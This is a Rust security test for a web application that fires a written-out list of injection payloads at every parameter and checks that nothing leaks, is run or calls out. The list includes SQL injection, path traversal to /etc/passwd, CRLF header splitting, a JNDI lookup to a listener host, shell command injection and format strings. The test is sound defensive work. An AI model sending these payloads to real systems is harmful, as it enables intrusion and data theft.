//! Words that would be code somewhere, in every place of every row: they are words. The places are taken from
//! the description, so a new parameter is tried the day it exists, and each sees each of the words once.
//!
//! Beside the common oracle: nothing outside is told, run, or called.

use std::collections::BTreeMap;
use std::net::TcpListener;
use std::sync::Mutex;
use std::time::Duration;

use edge::{Access, Table};
use serde_json::json;
use testkit::{Answer, Form};

use super::caller::Caller;
use super::form::{QUICK, filled};
use super::oracle::{Case, lock};
use super::places::{Description, Place, Spot, in_header};
use super::with_under_way;
use crate::media::picture;
use crate::service::furnished::{Furnished, seen};
use crate::site::Site;

/// What a template that is run makes of 133713 times 733177.
const PRODUCT: &str = "98035296201";
const PLANTED: &str = "canary-planted-words";

/// Less than the words that sleep would take, and more than a busy machine needs.
const LESS_THAN_ASLEEP: Duration = Duration::from_secs(25);

/// Written small where the oracle would take what is sent for something of the inside.
const WORDS: [&str; 34] = [
    // Always true, never true, more rows, the rest left out.
    "' or '1'='1",
    "' and '1'='2",
    "\" or \"\"=\"",
    "1) or (1=1",
    "') or 1=1--",
    "x'/*",
    "owner'--",
    "\\' or 1=1 #",
    "' union select name,sql,3 from sqlite_schema--",
    "(case when 1=1 then title else slug end)",
    // More than one, and those that take their time.
    "'; drop table items; --",
    "1; select pg_sleep(30); --",
    "'||(select pg_sleep(30))||'",
    "' and 1=(with recursive n(i) as (select 1 union all select i+1 from n) select count(*) from n)--",
    // Ways out of a folder.
    "../../../../../../../../etc/passwd",
    "../planted.txt",
    "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fplanted.txt",
    "..%5c..%5cplanted.txt",
    "%252e%252e%252fplanted.txt",
    "%c0%ae%c0%ae%c0%afplanted.txt",
    "file:///etc/passwd",
    // Ends of texts and of lines.
    "planted.txt\0.webp",
    "x\r\nx-split: yes\r\n\r\nHTTP/1.1 200 OK",
    "x%0d%0ax-split:%20yes",
    // Templates, lookups, shells, formats.
    "{{133713*733177}}",
    "${133713*733177}",
    "<%= 133713*733177 %>",
    "${jndi:ldap://LISTENER/x}",
    "http://LISTENER/x",
    ";touch injected",
    "$(touch injected)",
    "`touch injected`|touch injected",
    "%s%n%x%p",
];

/// Headers that no row describes, or that a proxy or a browser would send.
const HEADERS: [&str; 11] = [
    "if-match",
    "if-none-match",
    "if-modified-since",
    "idempotency-key",
    "accept-language",
    "cookie",
    "x-request-id",
    "x-forwarded-for",
    "x-forwarded-host",
    "range",
    "referer",
];

/// What pages take of their query, which no description tells.
const PAGES: [(&str, &str); 7] = [
    ("/search", "q"),
    ("/search", "kind"),
    ("/search", "page"),
    ("/tags/{tag}", "kind"),
    ("/tags/{tag}", "page"),
    ("/", "theme"),
    ("/", "return"),
];

/// Most of these write to the same few things, one after the other. The more wait, the longer takes the last of them.
fn at_once(times: usize, act: impl Fn(usize) + Sync) {
    with_under_way(4, times, act);
}

/// What came back, by the hundreds of its status.
type Counts = Mutex<BTreeMap<(&'static str, u16), u32>>;

struct Attack<'a> {
    made: &'a Furnished,
    words: Vec<String>,
    counts: Counts,
}

impl Attack<'_> {
    fn note(&self, kind: &'static str, what: &str, answer: &Answer) {
        assert_eq!(answer.header("x-split"), None, "{what} splits an answer");
        *lock(&self.counts).entry((kind, answer.status.as_u16() / 100)).or_default() += 1;
    }

    /// All words in turn, beginning with this one.
    fn beginning_with(&self, first: usize) -> Vec<String> {
        let all = self.words.iter().cycle().skip(first % self.words.len());
        all.take(self.words.len()).cloned().collect()
    }

    fn send(&self, caller: &Caller<'_>, place: &Place, first: usize, fresh: usize) -> Answer {
        let words = self.beginning_with(first);
        if let Spot::Form(fields) = &place.spot {
            return self.send_form(caller, place, fields, &words);
        }
        let request = place.with(self.made, &words, fresh);
        let mut caller = caller.within(LESS_THAN_ASLEEP);
        if let Some((name, value)) = &request.header {
            caller = caller.with(name, value);
        }
        if place.path == "/tailor" {
            caller = caller.patient();
        }
        let body = request.body.map(|body| body.to_string()).unwrap_or_default();
        let answer = caller.send(&place.method, &request.path, body.as_bytes());
        let kind = match &place.spot {
            Spot::Path(_) => "path",
            Spot::Query(_) => "query",
            Spot::Header(_) => "header",
            Spot::Body(_) | Spot::Form(_) => "body",
        };
        self.note(kind, &format!("{place:?}: {}", words[0]), &answer);
        answer
    }

    /// The words as the name of a file and as every text beside it.
    fn send_form(
        &self,
        caller: &Caller<'_>,
        place: &Place,
        fields: &[String],
        words: &[String],
    ) -> Answer {
        let mut form = Form::default();
        for (name, word) in fields.iter().zip(&words[1..]) {
            form = form.text(name, word);
        }
        let bytes = match place.path.starts_with("/resumes") {
            true => b"Ada Miller\nEngineer\n".to_vec(),
            false => picture("still.gif"),
        };
        let body = form.file(&words[0], &bytes).into_bytes();
        let caller = caller.patient().with("content-type", Form::CONTENT_TYPE);
        let answer = caller.send(&place.method, &self.made.concrete(&place.path), &body);
        self.note("form", &format!("{place:?}: {}", words[0]), &answer);
        answer
    }

    /// Each place with each of the words.
    fn try_all(
        &self,
        caller: &Caller<'_>,
        places: &[Place],
        judge: impl Fn(&Place, &Answer) + Sync,
    ) {
        let each = self.words.len();
        at_once(places.len() * each, |number| {
            let place = &places[number / each];
            judge(place, &self.send(caller, place, number % each, number));
        });
    }

    /// Many headers at once, each with other words.
    fn try_headers(&self, caller: &Caller<'_>, paths: &[String]) {
        let each = self.words.len();
        at_once(paths.len() * each, |number| {
            let (path, words) = (&paths[number / each], self.beginning_with(number));
            let mut caller = caller.within(LESS_THAN_ASLEEP);
            for (name, word) in HEADERS.iter().zip(&words) {
                caller = caller.with(name, &in_header(word));
            }
            self.note("header", path, &caller.get(path));
        });
    }

    /// The form for everybody, with a puzzle solved anew for each.
    fn try_contact(&self, caller: &Caller<'_>) {
        let members = ["name", "email", "message", "topic", "challenge_token", "rendered_at"];
        let each = self.words.len();
        at_once(members.len() * each, |number| {
            let (member, word) = (members[number / each], &self.words[number % each]);
            let caller = caller.within(LESS_THAN_ASLEEP);
            let message = filled(&caller, &json!({ member: word }));
            self.note("contact", member, &caller.post("/contact", &message));
        });
    }

    fn count(&self, kind: &'static str, hundreds: u16) -> u32 {
        lock(&self.counts).get(&(kind, hundreds)).copied().unwrap_or(0)
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_words_stand_in_any_parameter_are_words() {
    let beside = Site::start().await;
    let table = folia::routes::table(&beside.app);
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
    let called = listener.local_addr().expect("it is bound").to_string();
    let settings = [QUICK[0], QUICK[2], ("contact.per_hour", "10000")];
    let case = Case::begin_with("injection", &settings).await;
    for secret in [PLANTED, PRODUCT, "root:x:0:0"] {
        case.keep_secret(secret);
    }
    let folder = case.database.folder.path().to_owned();
    for place in ["planted.txt", "data/planted.txt"] {
        std::fs::write(folder.join(place), PLANTED).expect("it can be written");
    }
    let (admin, member) = (case.token("admin", "adam"), case.token("member", "mona"));
    let made = Furnished::at(case.running().address, &admin, &member);
    let words = WORDS.map(|words| words.replace("LISTENER", &called)).to_vec();
    let attack = Attack { made: &made, words, counts: Counts::default() };

    let described = case.nobody().get("/openapi.json").expect(200).json();
    let mut places = Description(described).places();
    places.retain(|place| place.path != "/contact");
    // What is gone afterwards comes last.
    places.sort_by_key(|place| place.method == "DELETE");
    let pages = pages(&table);
    assert!(places.len() > 400 && pages.len() > 12, "{} {}", places.len(), pages.len());

    let before = at_rest(&case);
    visitors(&attack, &table, &places, &pages, &case.nobody());
    case.expect_unchanged(&before);
    attack.try_contact(&case.nobody());
    let file = made.concrete("/media/{folder}/{name}");
    let read =
        ["/", "/search?q=x", "/sections", "/auth/login", "/contact", &file].map(str::to_owned);
    for caller in [case.nobody(), case.admin()] {
        attack.try_headers(&caller, &read);
    }
    attack.try_all(&case.admin().with("accept", "text/html"), &pages, |_, _| {});
    attack.try_all(&case.admin(), &places, |_, _| {});

    println!("{:?}", lock(&attack.counts));
    // Otherwise most of it was turned away at the door.
    for (kind, least) in
        [("query", 300), ("header", 300), ("body", 1000), ("form", 20), ("contact", 20)]
    {
        assert!(attack.count(kind, 2) > least, "{kind}: {:?}", lock(&attack.counts));
    }
    listener.set_nonblocking(true).expect("it need not wait");
    assert!(listener.accept().is_err(), "somebody was called");
    for place in ["injected", "data/injected", "data/media/injected"] {
        assert!(!folder.join(place).exists(), "something was run: {place}");
    }
    case.end();
}

/// What is stored when all that follows from it was done.
pub(super) fn at_rest(case: &Case) -> BTreeMap<String, Vec<u8>> {
    let (mut state, mut same) = (case.state(), 0);
    for _ in 0..60 {
        let later = case.state();
        same = if later == state { same + 1 } else { 0 };
        state = later;
        if same == 3 {
            return state;
        }
    }
    panic!("it changes by itself");
}

/// The addresses for people, with what they take.
fn pages(table: &Table) -> Vec<Place> {
    let mut places = Vec::new();
    for (_, path, _) in table.pages() {
        for part in path.split('/').filter_map(|part| part.strip_prefix('{')) {
            let name = part.trim_start_matches('*').trim_end_matches('}').to_owned();
            places.push(Place::read(path, Spot::Path(name)));
        }
    }
    for (path, name) in PAGES {
        places.push(Place::read(path, Spot::Query(name.to_owned())));
    }
    // What no row names: the address of a page.
    places.push(Place::read("/{address}", Spot::Path("address".to_owned())));
    places
}

/// Whoever is not signed in reads what is for all, and nothing but that; and changes nothing.
fn visitors(
    attack: &Attack<'_>,
    table: &Table,
    places: &[Place],
    pages: &[Place],
    nobody: &Caller<'_>,
) {
    let rules: BTreeMap<_, _> = table
        .lines()
        .map(|(method, path, access)| ((method.name(), path.replace("{*", "{")), access))
        .collect();
    let (open, closed): (Vec<_>, Vec<_>) = places.iter().cloned().partition(|place| {
        let rule = rules.get(&(place.method.as_str(), place.path.clone()));
        *rule.expect("what is described is in the table") == Access::Anyone
    });
    let expect_open = |place: &Place, answer: &Answer| {
        assert_eq!(seen(answer), [] as [&str; 0], "{place:?}");
    };
    attack.try_all(nobody, &open, expect_open);
    attack.try_all(&nobody.with("accept", "text/html"), pages, expect_open);
    at_once(closed.len(), |number| {
        let answer = attack.send(nobody, &closed[number], number, number);
        let refused = answer.status.is_client_error();
        assert!(refused, "{:?}: {}", closed[number], answer.status);
        expect_open(&closed[number], &answer);
    });
}
